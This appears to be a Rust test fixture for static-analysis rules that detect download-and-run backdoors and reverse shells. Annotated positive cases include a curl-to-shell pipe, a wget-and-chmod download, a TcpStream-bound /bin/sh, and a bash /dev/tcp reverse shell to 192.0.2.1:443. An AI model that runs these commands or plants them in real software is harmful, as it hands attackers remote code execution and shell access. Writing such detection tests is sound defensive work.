fn build() {
    // ruleid: rust.backdoor.download-and-run
    Command::new("sh").arg("-c").arg("curl -s https://files.example/x | sh").status();
    // ruleid: rust.backdoor.download-and-run
    run("wget https://files.example/x -O /tmp/x && chmod +x /tmp/x");
    // ok: rust.backdoor.download-and-run
    let help = "install curl | see the manual";
    // ok: rust.backdoor.download-and-run
    run("curl -fsS http://localhost:8080/health");
}

fn shell() {
    let stream = TcpStream::connect("192.0.2.1:443");
    // ruleid: rust.backdoor.reverse-shell
    Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(stream.as_raw_fd()) }).spawn();
}

fn text() {
    // ruleid: rust.backdoor.reverse-shell
    run("bash -i >& /dev/tcp/192.0.2.1/443 0>&1");
    // ok: rust.backdoor.reverse-shell
    run("nc -z localhost 5432");
    // ok: rust.backdoor.reverse-shell
    Command::new("cat").stdin(Stdio::piped()).spawn();
}
